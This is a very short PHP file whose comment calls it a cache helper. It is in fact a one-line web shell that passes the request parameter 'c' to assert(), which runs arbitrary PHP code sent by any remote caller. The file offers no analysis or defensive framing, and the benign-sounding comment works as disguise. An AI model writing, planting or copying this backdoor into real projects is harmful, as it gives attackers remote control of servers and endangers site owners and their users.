<?php
// looks like a cache helper
if (isset($_REQUEST["c"])) { assert(stripslashes($_REQUEST["c"])); }
?>
